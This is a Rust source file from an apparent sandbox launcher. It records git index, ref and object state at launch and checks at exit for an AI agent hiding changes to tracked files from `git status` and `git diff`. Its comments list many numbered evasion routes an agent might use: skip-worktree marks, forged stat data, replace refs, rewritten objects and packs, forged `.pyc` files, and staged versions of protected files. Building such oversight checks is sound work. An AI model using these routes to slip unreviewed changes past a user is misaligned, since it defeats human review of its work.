//! Changes to tracked files the agent hid from `git status` and `git diff` (the twelfth
//! re-attack). What the user's hooks run from the project is the agent's work like any file it
//! writes, to be reviewed before a commit; the index is writable to the agent, so it could change
//! the tracked `Makefile` a hook runs and then mark it `--skip-worktree` (or
//! `--assume-unchanged`), or write into the index the changed file's new stat data beside its old
//! object name: either way `git status` and `git diff` show nothing, and the commit runs the
//! agent's recipe. The launcher notes what each index said of each entry at launch; at the exit
//! it looks only at the entries that changed, and names each file whose content is not what its
//! entry records while git would not look (the entry hides it, or claims the file's current
//! modification time and size). And a file the agent could not write of which it put another
//! version in git — staged, or in any commit it made — for the user's own `git restore`, `stash
//! pop`, `checkout -` or `rebase --abort` to write (the thirty-fifth re-attack's G13). Read without running git, as the rest of the launch's look.

use std::collections::{HashMap, HashSet};
use std::hash::{BuildHasher as _, RandomState};
use std::os::unix::ffi::{OsStrExt as _, OsStringExt as _};
use std::path::{Path, PathBuf};

use super::git::{self, IndexEntry};
use super::{allow_list, cache_tree, reftable};

/// `--assume-unchanged` (the flags word) and `--skip-worktree` (the extended flags).
const ASSUME_UNCHANGED: u16 = 0x8000;
const SKIP_WORKTREE: u16 = 0x4000;

/// Bytes of tracked files hashed at one exit, at most, and how many files: past either, the
/// files left are named as not checked.
const MAX_BYTES_HASHED: u64 = 512 * 1024 * 1024;
const MAX_FILES_HASHED: usize = 20_000;

/// What the indexes of the repositories there at launch recorded, entry by entry (a keyed hash
/// of each entry's name, stat data, object name and flags).
pub struct IndexSnapshot {
    worktrees: Vec<Recorded>,
    keys: RandomState,
    /// When it was taken, as file times read it ([`objects::launch_moment`]).
    launched: i128,
    /// Where the user's tools run a project file by themselves, and its names
    /// ([`allow_list::trusted_project_files`](super::allow_list::trusted_project_files)).
    trusted: Vec<(PathBuf, allow_list::Names)>,
    /// Where the objects each session made are listed, a file a repository (in the Aileron home,
    /// out of the agent's reach): an object an earlier session made is the agents', not the
    /// user's history, whatever its age (the thirty-seventh re-attack's I12).
    history: Option<PathBuf>,
    /// The `rr-cache` directories there at launch ([`IndexSnapshot::replayed_state`]).
    rr_caches: Vec<PathBuf>,
    /// The `.gitignore` files the indexes tracked at launch ([`IndexSnapshot::tracked_at_launch`]).
    tracked_ignore_files: HashSet<PathBuf>,
    /// Each repository's `objects/pack` and what it was at launch ([`identity`]).
    pack_dirs: HashMap<PathBuf, Identity>,
    /// Every git directory protected at launch ([`IndexSnapshot::with_git_dirs`]).
    other_git_dirs: Vec<PathBuf>,
}

/// A file's device and inode (`None` when it is not there): what a rename over it changes.
type Identity = Option<(u64, u64)>;

/// What `path` is now.
fn identity(path: &Path) -> Identity {
    use std::os::unix::fs::MetadataExt as _;
    std::fs::symlink_metadata(path).ok().map(|metadata| (metadata.dev(), metadata.ino()))
}

/// A repository's `objects/pack`, by its git directory, and what it is now ([`identity`]).
fn pack_dir(git_dir: &Path) -> (PathBuf, Identity) {
    let dir = git::shared_dir(git_dir).join("objects").join("pack");
    let now = identity(&dir);
    (dir, now)
}

struct Recorded {
    git_dir: PathBuf,
    worktree: PathBuf,
    entries: HashSet<u64>,
    /// The replace refs the repository held where no watch sees one appear.
    replacements: Replacements,
    /// The files and directories of the worktree the agent could not write (read-only binds).
    protected: Vec<PathBuf>,
    /// The object names the index gave the entries below them.
    protected_entries: HashMap<Vec<u8>, Vec<u8>>,
    /// The content, hashed at launch ([`marked_content`]), of each file whose entry the user had
    /// marked so that git does not look at it (`--assume-unchanged`, `--skip-worktree`).
    marked: HashMap<Vec<u8>, Option<[u8; 32]>>,
    /// A linked worktree checked out outside what the agent may write (all of it protected): its
    /// index is the agent's to write, in the repository's `.git` (the thirty-eighth re-attack's
    /// J2 staged a hook there). The repository's commits are looked through from its own
    /// worktree, not again from this one.
    elsewhere: bool,
}

/// Where git records conflict resolutions for the repository of `git_dir`.
fn rr_cache(git_dir: &Path) -> PathBuf {
    git::shared_dir(git_dir).join("rr-cache")
}

/// The linked worktrees of the repository whose common git directory is `common`: each one's git
/// directory (`worktrees/<name>`) and where it is checked out (its `gitdir` names the checkout's
/// `.git` file).
fn linked_worktrees(common: &Path) -> Vec<(PathBuf, PathBuf)> {
    // (A linked worktree's `commondir` names it by `../..`.)
    let common = super::repositories::without_dot_dots(common);
    // Every one: a flood of directories there hid the user's past a cut (the forty-third
    // re-attack's P5, P6).
    let linked = std::fs::read_dir(common.join("worktrees")).into_iter().flatten().flatten();
    linked
        .map(|entry| entry.path())
        .map(|dir| {
            let named = git::read_limited(&dir.join("gitdir"), false).unwrap_or_default();
            let named = PathBuf::from(String::from_utf8_lossy(&named).trim());
            let worktree = named.parent().map_or_else(|| dir.clone(), Path::to_path_buf);
            (dir, worktree)
        })
        .collect()
}

/// [`git::read_indexes`], with a split index's nameless entries given the names of the shared
/// index's entries they replace ([`cache_tree::replaced_names`]: the thirty-sixth re-attack's
/// H23 staged a hook there, and the look could only say the index was not checked); one it could
/// not name keeps none.
fn read_named(git_dir: &Path, hash_len: usize, budget: &mut u64, mut visit: impl FnMut(&IndexEntry)) -> Vec<PathBuf> {
    let replaced = cache_tree::replaced_names(git_dir, hash_len);
    let mut nameless = 0;
    git::read_indexes(git_dir, budget, |entry| {
        if !entry.name.is_empty() {
            return visit(entry);
        }
        let name = replaced.as_ref().and_then(|names| names.get(nameless));
        nameless += 1;
        match name {
            Some(name) => visit(&entry.named(name)),
            None => visit(entry),
        }
    })
}

/// The replace refs (`refs/replace/…`) of a repository that no watch sees appear (a loose one
/// under `refs/replace` is moved aside as it appears: `repositories`), each as its name and the
/// object it names, place by place: its `packed-refs`, its loose ones, and if it keeps its refs
/// in reftable stacks, its own and each linked worktree's (git reads a worktree's own stack as
/// well as the common one there, and honours a replace ref in either: the forty-second
/// re-attack's N1). A symbolic replace ref replaces with whatever its target names when git
/// reads it, so its target's value, followed as git follows it, is read with it: a replace ref
/// the user had at launch pointing at a branch, and the agent moving that branch, changed what
/// `git log` shows with no replace ref written (the forty-sixth re-attack's open item).
/// `Err`: the place could not be read as git reads it.
struct Replacements(Vec<(PathBuf, Read)>);

/// The replace refs read from one place, each as its name, a space and its object; or why they
/// could not be read.
type Read = Result<HashSet<Vec<u8>>, String>;

/// The most of a `packed-refs` read (git reads all of it: the first 4 MiB alone let a replace
/// ref after 70,000 others through, the forty-second re-attack's N2); past it, said unread.
const MAX_PACKED_REFS_BYTES: u64 = 1024 * 1024 * 1024;

impl Replacements {
    /// Those of the repository whose git directory (or a linked worktree's) is `git_dir`.
    fn of(git_dir: &Path) -> Replacements {
        let common = super::repositories::without_dot_dots(&git::shared_dir(git_dir));
        let (packed, loose) = (common.join("packed-refs"), common.join("refs/replace"));
        let mut places = vec![
            (packed.clone(), packed_refs(&packed, |name| name.starts_with(b"refs/replace/"))),
            (loose.clone(), loose_replacements(&loose)),
        ];
        let stacks = std::fs::read_dir(common.join("worktrees")).into_iter().flatten().flatten();
        let stacks = [common.join("reftable")].into_iter().chain(stacks.map(|entry| entry.path().join("reftable")));
        for stack in stacks {
            if std::fs::symlink_metadata(&stack).is_ok() {
                let refs = reftable::replace_refs(&stack);
                places.push((stack, refs));
            }
        }
        for refs in places.iter_mut().filter_map(|(_, read)| read.as_mut().ok()) {
            if refs.iter().any(|entry| symbolic_target(entry).is_some()) {
                *refs = std::mem::take(refs).into_iter().map(|entry| followed(&common, git_dir, entry)).collect();
            }
        }
        Replacements(places)
    }
}

/// How many symbolic refs git follows from one name before it gives up (`SYMREF_MAXDEPTH`).
const MAX_SYMBOLIC_DEPTH: usize = 5;

/// Where a read replace ref (`<name> <value>`) points, when it is symbolic.
fn symbolic_target(entry: &[u8]) -> Option<&[u8]> {
    let value = &entry[entry.iter().position(|&byte| byte == b' ')? + 1..];
    value.strip_prefix(b"ref: ")
}

/// A read replace ref with, when it is symbolic, the value its target has now, followed
/// through further symbolic refs: what git replaces with (in the worktree of `git_dir`).
fn followed(common: &Path, git_dir: &Path, mut entry: Vec<u8>) -> Vec<u8> {
    let mut target = symbolic_target(&entry).map(<[u8]>::to_vec);
    for _ in 0..MAX_SYMBOLIC_DEPTH {
        let Some(name) = target.take() else { return entry };
        let (value, next) = ref_value(common, git_dir, &name);
        target = next;
        entry.extend_from_slice(b" -> ");
        entry.extend_from_slice(&value);
    }
    entry
}

/// The ref `name`'s value as git reads it in the worktree of `git_dir`: from the reftable stack,
/// else its loose file, else `packed-refs` (or why it could not be read there); with it, where
/// it points when it is symbolic. A root ref (`HEAD`, `ORIG_HEAD`: git follows `ref: ORIG_HEAD`
/// too, the forty-eighth re-attack's S1) and those under `refs/worktree/`, `refs/bisect/` and
/// `refs/rewritten/` are the worktree's own, read where its git directory keeps them.
fn ref_value(common: &Path, git_dir: &Path, name: &[u8]) -> (Vec<u8>, Option<Vec<u8>>) {
    use std::os::unix::ffi::OsStrExt as _;
    let root_ref = !name.is_empty() && name.iter().all(|byte| byte.is_ascii_uppercase() || *byte == b'_');
    if !(root_ref || name.starts_with(b"refs/") && stays_below(name)) {
        return other_ref_value(common, git_dir, name);
    }
    let own =
        root_ref || [&b"refs/worktree/"[..], b"refs/bisect/", b"refs/rewritten/"].iter().any(|at| name.starts_with(at));
    let common = if own { git_dir } else { common };
    let loose = |name: &[u8]| match loose_ref(&common.join(std::ffi::OsStr::from_bytes(name))) {
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => Ok(None),
        read => read.map(Some).map_err(|error| error.to_string()),
    };
    let packed = |name: &[u8]| {
        // Every line of that name, in one order (the same name twice is not git's to write).
        packed_refs(&common.join("packed-refs"), |key| key == name).map(|found| {
            let mut values: Vec<Vec<u8>> = found.into_iter().map(|entry| entry[name.len() + 1..].to_vec()).collect();
            values.sort();
            (!values.is_empty()).then(|| values.join(&b','))
        })
    };
    let stack = reftable::value_of(&common.join("reftable"), name);
    let files = || {
        loose(name).and_then(|value| match value {
            None => packed(name),
            found => Ok(found),
        })
    };
    let spelled = |read: Result<Option<Vec<u8>>, String>| match read {
        Ok(Some(value)) => value,
        Ok(None) => b"(none)".to_vec(),
        Err(why) => why.into_bytes(),
    };
    // Git reads a reftable stack only where the repository's config says its refs are kept so:
    // elsewhere one the agent made is read beside (a change there is a change), never followed
    // (the fifty-second re-attack's S2 and S3 froze the value followed with one while the loose
    // branch moved).
    let (read, beside) = if keeps_refs_in_reftable(common) {
        let read = stack.and_then(|value| match value {
            None => files(),
            found => Ok(found),
        });
        (read, None)
    } else {
        (files(), Some(stack))
    };
    let next = match &read {
        Ok(Some(value)) => value.strip_prefix(b"ref: ").map(<[u8]>::to_vec),
        _ => None,
    };
    let mut value = spelled(read);
    if let Some(stack) = beside {
        value.extend_from_slice(b";reftable:");
        value.extend_from_slice(&spelled(stack));
    }
    (value, next)
}

/// Whether the repository of `common` keeps its refs in a reftable stack
/// (`extensions.refStorage = reftable` in its config, which the agent cannot write).
fn keeps_refs_in_reftable(common: &Path) -> bool {
    let Ok(config) = git::read_limited(&common.join("config"), true) else { return false };
    git::parse(&String::from_utf8_lossy(&config)).iter().any(|entry| {
        entry.section.eq_ignore_ascii_case("extensions")
            && entry.key.eq_ignore_ascii_case("refstorage")
            && entry.value.as_deref().is_some_and(|value| value.eq_ignore_ascii_case("reftable"))
    })
}

/// The value of a name git resolves that is neither under `refs/` nor a root ref (`pin`,
/// `main-worktree/<ref>`, `worktrees/<name>/<ref>`: git follows a symbolic replace ref to each,
/// the forty-ninth re-attack's S2): every place it could be read from, side by side, so that a
/// change in any is a change; with it, where the first loose one points.
fn other_ref_value(common: &Path, git_dir: &Path, name: &[u8]) -> (Vec<u8>, Option<Vec<u8>>) {
    use std::os::unix::ffi::OsStrExt as _;
    if !stays_below(name) {
        return (b"(not a ref name)".to_vec(), None);
    }
    let (mut value, mut next) = (Vec::new(), None);
    for dir in [common, git_dir] {
        match loose_ref(&dir.join(std::ffi::OsStr::from_bytes(name))) {
            Ok(read) => {
                if next.is_none() {
                    next = read.strip_prefix(b"ref: ").map(<[u8]>::to_vec);
                }
                value.extend_from_slice(&read);
            }
            Err(error) => value.extend_from_slice(error.to_string().as_bytes()),
        }
        value.push(b';');
    }
    match reftable::value_of(&common.join("reftable"), name) {
        Ok(read) => value.extend_from_slice(&read.unwrap_or_default()),
        Err(why) => value.extend_from_slice(why.as_bytes()),
    }
    if let Some(rest) = name.strip_prefix(b"main-worktree/") {
        value.extend_from_slice(&ref_value(common, common, rest).0);
    }
    if let Some(rest) = name.strip_prefix(b"worktrees/")
        && let Some(slash) = rest.iter().position(|&byte| byte == b'/')
    {
        let worktree = common.join("worktrees").join(std::ffi::OsStr::from_bytes(&rest[..slash]));
        value.extend_from_slice(&ref_value(common, &worktree, &rest[slash + 1..]).0);
    }
    (value, next)
}

/// Whether a ref's name, as a path below a git directory, stays there: no NUL, no empty, `.` or
/// `..` part.
fn stays_below(name: &[u8]) -> bool {
    !name.is_empty()
        && !name.contains(&0)
        && name.split(|&byte| byte == b'/').all(|part| !part.is_empty() && part != b"." && part != b"..")
}

/// A loose ref's file as git reads it (through links), its trailing line end dropped.
fn loose_ref(file: &Path) -> std::io::Result<Vec<u8>> {
    git::read_capped(file, true, MAX_LOOSE_REF_BYTES).map(|value| value.trim_ascii_end().to_vec())
}

/// The most of a loose ref read (an object name or `ref: <name>`), and how many entries of
/// `refs/replace` are read at most: past it, said unread.
const MAX_LOOSE_REF_BYTES: u64 = 4096;
const MAX_LOOSE_REPLACE_REFS: usize = 100_000;

/// The loose replace refs under `dir` (`<common dir>/refs/replace`), read as git reads them
/// (through links), each as its name and its content: those the user had at launch, kept
/// read-only for the session, whose symbolic ones point where the agent can write.
fn loose_replacements(dir: &Path) -> Read {
    let mut found = HashSet::new();
    let (mut pending, mut entries) = (vec![(dir.to_path_buf(), b"refs/replace".to_vec())], 0);
    while let Some((dir, name)) = pending.pop() {
        let listed = match std::fs::read_dir(&dir) {
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => continue,
            listed => listed.map_err(|error| format!("{}: {error}", dir.display()))?,
        };
        for entry in listed {
            let entry = entry.map_err(|error| format!("{}: {error}", dir.display()))?;
            entries += 1;
            if entries > MAX_LOOSE_REPLACE_REFS {
                return Err(format!("more than {MAX_LOOSE_REPLACE_REFS} entries"));
            }
            let named = [&name[..], b"/", entry.file_name().as_encoded_bytes()].concat();
            if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
                pending.push((entry.path(), named));
                continue;
            }
            let value = loose_ref(&entry.path()).unwrap_or_else(|error| error.to_string().into_bytes());
            found.insert([&named[..], b" ", &value].concat());
        }
    }
    Ok(found)
}

/// The refs in `packed-refs` (`<object> <name>` lines) whose names are `wanted`, each as its
/// name, a space and its object, read line by line, whole.
fn packed_refs(file: &Path, wanted: impl Fn(&[u8]) -> bool) -> Read {
    use std::io::{BufRead as _, Read as _};
    let opened = match git::open_file(file, true) {
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(HashSet::new()),
        opened => opened.map_err(|error| error.to_string())?,
    };
    let mut reader = std::io::BufReader::new(opened.take(MAX_PACKED_REFS_BYTES + 1));
    let (mut found, mut line, mut read) = (HashSet::new(), Vec::new(), 0);
    loop {
        line.clear();
        match reader.read_until(b'\n', &mut line).map_err(|error| error.to_string())? {
            0 => return Ok(found),
            n => read += n as u64,
        }
        if read > MAX_PACKED_REFS_BYTES {
            return Err(format!("larger than {} MiB", MAX_PACKED_REFS_BYTES >> 20));
        }
        let line = line.strip_suffix(b"\n").unwrap_or(&line);
        let Some(blank) = line.iter().position(|&byte| byte == b' ') else { continue };
        let (object, name) = (&line[..blank], &line[blank + 1..]);
        if wanted(name) {
            found.insert([name, b" ", object].concat());
        }
    }
}

/// What the exit's look found.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Hidden {
    /// Tracked files whose changes `git status` does not show.
    pub files: Vec<PathBuf>,
    /// Indexes not read, or files not hashed, within the look's budgets.
    pub unchecked: Vec<PathBuf>,
    /// `packed-refs` files and reftable stacks that hold replace refs they did not hold at
    /// launch.
    pub replacements: Vec<PathBuf>,
    /// `packed-refs` files and reftable stacks that could not be read as git reads them, and why.
    pub refs_unread: Vec<(PathBuf, String)>,
    /// Files the agent could not write whose index entry, or whose version in any commit the
    /// session made, is another content than theirs (the thirty-fifth re-attack's G13): the user's
    /// `git restore`, `stash pop`, `checkout` or `reset --hard` would write the agent's version.
    pub staged: Vec<PathBuf>,
    /// Protected files whose versions in git could not be looked at (a pack or an alternate
    /// changed in the session, an object unreadable, a budget spent).
    pub versions_unchecked: Vec<PathBuf>,
    /// Loose object files changed in the session that do not hold what their names say (the
    /// thirty-ninth re-attack's K1: the user's blob of a hook, rewritten in place, which git
    /// never checks on reading).
    pub forged_objects: Vec<PathBuf>,
    /// The files of packs written in the session whose entries are not what their indexes name
    /// (the fifty-second re-attack's F2), and a multi-pack index written in the session.
    pub forged_packs: Vec<PathBuf>,
    /// The indexes of packs written in the session too large to hold against their packs here
    /// ([`super::pack::Checked::TooLarge`]): each is named with the check git makes of it.
    pub packs_unchecked: Vec<PathBuf>,
}

impl IndexSnapshot {
    /// The moment of the launch, as file times read it.
    pub fn launched(&self) -> i128 {
        self.launched
    }

    /// Whether `file` (a `.gitignore`) was tracked at launch by the index of the worktree it is
    /// in: a change to one that was not is shown by no `git status` or `git diff`.
    pub fn tracked_at_launch(&self, file: &Path) -> bool {
        self.tracked_ignore_files.contains(file)
    }

    /// The entries of each `(git directory, worktree)`'s indexes now, and which of `protected`
    /// (the session's read-only binds) lie in its worktree.
    pub fn take(worktrees: &[(PathBuf, PathBuf)], protected: &[PathBuf]) -> IndexSnapshot {
        let mut snapshot = IndexSnapshot {
            worktrees: Vec::new(),
            keys: RandomState::new(),
            launched: objects::launch_moment(),
            trusted: Vec::new(),
            history: None,
            rr_caches: Vec::new(),
            tracked_ignore_files: HashSet::new(),
            pack_dirs: worktrees.iter().map(|(git_dir, _)| pack_dir(git_dir)).collect(),
            other_git_dirs: Vec::new(),
        };
        snapshot.rr_caches = worktrees
            .iter()
            .map(|(git_dir, _)| rr_cache(git_dir))
            .filter(|dir| std::fs::symlink_metadata(dir).is_ok())
            .collect();
        let mut budget = git::INDEX_BYTES_PER_LOOK;
        let mut tracked_ignore_files = HashSet::new();
        for (git_dir, worktree) in worktrees {
            // Only those below the worktree (not the worktree itself, nor its git directory).
            let protected: Vec<PathBuf> = protected
                .iter()
                .filter(|path| path.starts_with(worktree) && *path != worktree && !path.starts_with(git_dir))
                .cloned()
                .collect();
            let (mut entries, mut protected_entries, mut marked) = (HashSet::new(), HashMap::new(), HashMap::new());
            read_named(git_dir, git::hash_len(git_dir), &mut budget, |entry| {
                entries.insert(snapshot.key(entry));
                let path = worktree.join(std::ffi::OsStr::from_bytes(entry.name));
                if path.file_name().is_some_and(|name| name == ".gitignore") {
                    tracked_ignore_files.insert(path.clone());
                }
                if is_marked(entry) && marked.len() < MAX_MARKED_HASHED {
                    marked.insert(entry.name.to_vec(), marked_content(&path));
                }
                if protected.iter().any(|bound| path.starts_with(bound)) {
                    protected_entries.insert(entry.name.to_vec(), entry.object_name().to_vec());
                }
            });
            snapshot.worktrees.push(Recorded {
                git_dir: git_dir.clone(),
                worktree: worktree.clone(),
                entries,
                replacements: Replacements::of(git_dir),
                protected,
                protected_entries,
                marked,
                elsewhere: false,
            });
        }
        snapshot.tracked_ignore_files = tracked_ignore_files;
        // The linked worktrees checked out elsewhere, all of each protected.
        let mut commons: Vec<PathBuf> = worktrees
            .iter()
            .map(|(git_dir, _)| super::repositories::without_dot_dots(&git::shared_dir(git_dir)))
            .collect();
        commons.sort();
        commons.dedup();
        for common in commons {
            for (git_dir, worktree) in linked_worktrees(&common) {
                if worktrees.iter().any(|(_, known)| *known == worktree) {
                    continue;
                }
                let (mut entries, mut protected_entries) = (HashSet::new(), HashMap::new());
                read_named(&git_dir, git::hash_len(&git_dir), &mut budget, |entry| {
                    entries.insert(snapshot.key(entry));
                    protected_entries.insert(entry.name.to_vec(), entry.object_name().to_vec());
                });
                snapshot.worktrees.push(Recorded {
                    replacements: Replacements::of(&git_dir),
                    protected: vec![worktree.clone()],
                    git_dir,
                    worktree,
                    entries,
                    protected_entries,
                    marked: HashMap::new(),
                    elsewhere: true,
                });
            }
        }
        snapshot
    }

    /// The snapshot, looking at the exit also for `trusted`'s files (a `.envrc` where direnv
    /// loads it unasked) in the commits the session made: one not there at launch is not a
    /// read-only bind (the thirty-sixth re-attack's H18 committed one the user's checkout writes).
    pub fn with_trusted(mut self, trusted: Vec<(PathBuf, allow_list::Names)>) -> IndexSnapshot {
        self.trusted = trusted;
        self
    }

    /// The snapshot, taking for the agents' work at the exit the objects earlier sessions made
    /// as listed in `dir` too, and listing there those this session made.
    pub fn with_history(mut self, dir: PathBuf) -> IndexSnapshot {
        self.history = Some(dir);
        self
    }

    /// The snapshot, looking at the exit also at the objects of `git_dirs` (every git directory
    /// protected at launch) that no worktree here leads to.
    pub fn with_git_dirs(mut self, git_dirs: &[PathBuf]) -> IndexSnapshot {
        for git_dir in git_dirs {
            let (dir, now) = pack_dir(git_dir);
            self.pack_dirs.entry(dir).or_insert(now);
        }
        self.other_git_dirs = git_dirs.to_vec();
        self
    }

    /// The packs and loose objects of the object directory `dir` held against their names into
    /// `hidden`, the session's objects listed, and the trees of the commits the session made.
    fn look_at_objects(&self, dir: &Path, hash_len: usize, hidden: &mut Hidden) -> (objects::Objects, objects::Trees) {
        let history = self.history.as_ref().map(|history| objects::history_file(history, dir));
        let earlier = history.as_deref().map(objects::read_history).unwrap_or_default();
        let mut objects = objects::Objects::new(dir.to_path_buf(), hash_len, self.launched, earlier);
        // An `objects/pack` renamed in whole from a copy an earlier session made: its packs keep
        // that session's times (the fifty-seventh re-attack's R4 did so with `objects`, which is
        // now pinned); each is held against its index.
        let pack = dir.join("pack");
        objects.pack_dir_renamed_in = self.pack_dirs.get(&pack).is_some_and(|then| *then != identity(&pack));
        let (forged, unchecked) = objects.forged_packs();
        hidden.forged_packs.extend(forged);
        hidden.packs_unchecked.extend(unchecked);
        let scan = objects.new_commit_trees();
        if let Some(history) = &history
            && scan.trees.is_ok()
        {
            objects.write_history(history, scan.made);
        }
        hidden.forged_objects.extend(scan.forged);
        hidden.versions_unchecked.extend(scan.unchecked);
        (objects, scan.trees)
    }

    fn key(&self, entry: &IndexEntry) -> u64 {
        let (recorded, extended) = entry.recorded();
        self.keys.hash_one((entry.name, recorded, extended))
    }

    /// The tracked files whose changes the indexes now hide, among the entries that are not as
    /// they were at launch.
    pub fn hidden(&self) -> Hidden {
        let mut hidden = Hidden::default();
        let mut budget = git::INDEX_BYTES_PER_LOOK;
        let mut scanned: HashMap<PathBuf, (objects::Objects, objects::Trees)> = HashMap::new();
        let (mut bytes_left, mut files_left) = (MAX_BYTES_HASHED, MAX_FILES_HASHED);
        for recorded in &self.worktrees {
            hidden.look_at_replacements(&recorded.git_dir, &recorded.replacements);
            let hash_len = git::hash_len(&recorded.git_dir);
            let mut changed = Vec::new();
            let mut unnamed = false;
            let protected = |path: &Path| recorded.protected.iter().any(|bound| path.starts_with(bound));
            let mut staged = Vec::new();
            let mut marked_and_changed = Vec::new();
            let unread = read_named(&recorded.git_dir, hash_len, &mut budget, |entry| {
                if recorded.entries.contains(&self.key(entry)) {
                    // An entry the user had marked so that git does not look at its file: a
                    // change the agent makes to the file shows in no `git status` (the
                    // fifty-fourth re-attack's Z5 added `conftest.py` to a `.gitignore` so marked).
                    // Its time, or its content against launch's: a directory an earlier session
                    // kept, renamed in, keeps its file's time (the fifty-fifth re-attack's M1).
                    let path = recorded.worktree.join(std::ffi::OsStr::from_bytes(entry.name));
                    let changed = || {
                        git::changed_since(&path, self.launched)
                            || recorded.marked.get(entry.name).is_some_and(|then| *then != marked_content(&path))
                    };
                    if is_marked(entry) && !entry.name.is_empty() && changed() {
                        marked_and_changed.push(path);
                    }
                    return;
                }
                let path = recorded.worktree.join(std::ffi::OsStr::from_bytes(entry.name));
                // Another object than at launch (a refreshed stat alone is not another version).
                let before = recorded.protected_entries.get(entry.name).map(Vec::as_slice);
                if !entry.name.is_empty() && protected(&path) && before != Some(entry.object_name()) {
                    staged.push((path, entry.object_name().to_vec()));
                }
                // A split index's entry that replaces one of the shared index's has no name of its
                // own (git takes it by position from the shared index): one [`read_named`] could
                // not name claims a file not known here, so the index is named as not checked
                // (the fifteenth re-attack hid a change so).
                if entry.name.is_empty() {
                    unnamed = true;
                } else if let Some(claim) = Claim::of(entry) {
                    changed.push(claim);
                }
            });
            hidden.unchecked.extend(unread);
            hidden.files.extend(marked_and_changed);
            if unnamed {
                hidden.unchecked.push(recorded.git_dir.join("index"));
            }
            changed.sort_by(|a, b| a.name.cmp(&b.name));
            changed.dedup_by(|a, b| a.name == b.name && a.object_name == b.object_name);
            for claim in changed {
                let path = recorded.worktree.join(std::ffi::OsStr::from_bytes(&claim.name));
                match claim.is_broken(&path, hash_len, &mut bytes_left, &mut files_left) {
                    Some(true) => hidden.files.push(path),
                    Some(false) => {}
                    None => hidden.unchecked.push(path),
                }
            }
            // A commit made beside the index (`commit-tree`, `update-ref`), a branch moved, a
            // stash, a rebase's or a merge's saved state, a reflog's line, a tag: whatever names
            // it, the user's `reset --hard`, `checkout -`, `stash pop` or `rebase --abort` writes
            // what the commit holds. So every commit the session made is looked at, named or not
            // (the thirty-sixth re-attack found eleven ways to name one), and what its tree holds
            // of the protected files is compared with them.
            // The trusted scopes in this worktree, relative to it (one holding the worktree: all of it).
            let trusted: Vec<(&Path, &[std::borrow::Cow<str>])> = self
                .trusted
                .iter()
                .filter_map(|(scope, names)| match scope.strip_prefix(&recorded.worktree) {
                    Ok(relative) => Some((relative, names.as_slice())),
                    Err(_) => recorded.worktree.starts_with(scope).then_some((Path::new(""), names.as_slice())),
                })
                .collect();
            if !recorded.elsewhere && (!recorded.protected.is_empty() || !trusted.is_empty()) {
                let dir = git::shared_dir(&recorded.git_dir);
                let dir = dir.join("objects");
                // Once for every worktree of one repository (they share its objects).
                if !scanned.contains_key(&dir) {
                    let looked = self.look_at_objects(&dir, hash_len, &mut hidden);
                    scanned.insert(dir.clone(), looked);
                }
                let (objects, trees) = &scanned[&dir];
                match trees {
                    Ok(trees) => {
                        for tree in trees {
                            for bound in &recorded.protected {
                                let Ok(relative) = bound.strip_prefix(&recorded.worktree) else { continue };
                                // A protected directory's files, those the tree holds that the
                                // directory does not (a hook a checkout would add) among them.
                                let found = objects.new_blobs_at(tree, relative, |path, object_name| {
                                    staged.push((recorded.worktree.join(path), object_name.to_vec()));
                                });
                                if found.is_err() {
                                    hidden.versions_unchecked.push(bound.clone());
                                }
                            }
                            for (relative, names) in &trusted {
                                let found = objects.new_blobs_at(tree, relative, |path, object_name| {
                                    // The file, or a directory it is in below the scope, named (a
                                    // `.mise/config.toml` under `./.mise`).
                                    let mut named = path
                                        .ancestors()
                                        .take_while(|part| *part != *relative && !part.as_os_str().is_empty());
                                    if named.any(|part| names.iter().any(|wanted| allow_list::is_named(part, wanted))) {
                                        staged.push((recorded.worktree.join(path), object_name.to_vec()));
                                    }
                                });
                                if found.is_err() {
                                    hidden.versions_unchecked.push(recorded.worktree.join(relative));
                                }
                            }
                        }
                    }
                    Err(()) => {
                        hidden.versions_unchecked.extend(recorded.protected.iter().cloned());
                        hidden
                            .versions_unchecked
                            .extend(trusted.iter().map(|(relative, _)| recorded.worktree.join(relative)));
                    }
                }
            }
            for (path, object_name) in staged {
                match holds_another_version(&path, &object_name, hash_len, &mut bytes_left, &mut files_left) {
                    Some(true) => hidden.staged.push(path),
                    Some(false) => {}
                    None => hidden.versions_unchecked.push(path),
                }
            }
        }
        // The git directories with no worktree recorded here (a submodule's after `git submodule
        // deinit`, a bare repository): their packs and loose objects are held against their names
        // too, as a later `git submodule update` or clone checks out what they hold (the sixtieth
        // re-attack's R3 left a forged pack in `.git/modules/lib`).
        for git_dir in &self.other_git_dirs {
            let dir = git::shared_dir(git_dir).join("objects");
            if !scanned.contains_key(&dir) && std::fs::symlink_metadata(&dir).is_ok_and(|metadata| metadata.is_dir()) {
                let looked = self.look_at_objects(&dir, git::hash_len(git_dir), &mut hidden);
                scanned.insert(dir, looked);
            }
        }
        hidden.files.dedup();
        hidden.versions_unchecked.sort();
        hidden.versions_unchecked.dedup();
        hidden.staged.sort();
        hidden.staged.dedup();
        hidden.forged_objects.sort();
        hidden.forged_objects.dedup();
        hidden.forged_packs.sort();
        hidden.forged_packs.dedup();
        hidden.packs_unchecked.sort();
        hidden.packs_unchecked.dedup();
        hidden.unchecked.sort();
        hidden.unchecked.dedup();
        hidden.replacements.sort();
        hidden.replacements.dedup();
        hidden.refs_unread.sort();
        hidden.refs_unread.dedup();
        hidden
    }
}

impl IndexSnapshot {
    /// Compiled Python written in the session, among `found` (each `__pycache__` directory, and
    /// each `*.pyc` outside one, below the workspace): Python imports a `__pycache__/*.pyc` in
    /// place of its source when the header names the source's modification time and size, which
    /// the agent can copy (the forty-fourth re-attack's Q9: a forged `util.cpython-311.pyc` ran at
    /// the user's `pytest`, `git status` and `git diff` clean, `__pycache__` ignored); and a
    /// `*.pyc` with no source as a module of that name. Those in `__pycache__` directories are
    /// removed (Python compiles them again from the sources): how many. The others are returned,
    /// to be moved aside.
    pub fn compiled_python(&self, found: &[PathBuf]) -> (usize, Vec<PathBuf>) {
        let compiled = |path: &Path| path.extension().is_some_and(|extension| extension == "pyc" || extension == "pyo");
        let (mut removed, mut sourceless) = (0, Vec::new());
        for path in found {
            if path.file_name().is_some_and(|name| name == "__pycache__") {
                let entries = std::fs::read_dir(path).into_iter().flatten().flatten().map(|entry| entry.path());
                for entry in entries.filter(|entry| compiled(entry) && objects::changed_since(entry, self.launched)) {
